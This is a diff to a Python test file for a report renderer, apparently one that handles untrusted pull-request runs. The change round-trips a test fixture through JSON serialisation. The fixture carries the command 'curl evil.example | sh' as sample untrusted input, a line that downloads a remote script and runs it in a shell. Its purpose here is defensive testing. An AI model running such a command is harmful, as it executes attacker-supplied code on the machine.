@@ -24,6 +24,7 @@ from evalgate.application.documents.untrusted_report import render_untrusted_rep
 from evalgate.application.messages.request import RenderOptions
 from evalgate.errors import InvalidInput, SettingError
 from evalgate.models.approvals.review import TriggeringRun
+from evalgate.reporting.results.results_json import dump_results
 
 SHA = "c0ffee" + "0" * 34
 RUN = TriggeringRun(9, "pull_request", 2002, "mallory/agent", "main", SHA, is_same_repository=False)
@@ -39,7 +40,7 @@ def a_document() -> Any:
         "broken", flags=["flaky"], increases=["cost"], previous_verdict="PASS", calls=some_calls(["a"], ["b"])
     )
     suite = a_suite("s", [a_scenario("a", "HARD_FAIL", change, trials=[failed]), a_scenario("b")], "fail")
-    return results(
+    document = results(
         [{**suite, "variants": [a_variant()]}],
         "fail",
         reasons=[a_reason("hard_fail", "m", suite="s", scenario="a"), a_reason("no_baseline", "n")],
@@ -51,6 +52,7 @@ def a_document() -> Any:
         warnings=[{"code": "note", "message": "w", "where": "here"}],
         command="curl evil.example | sh",
     )
+    return json.loads(dump_results(document))
 
 
 def render_report(document):
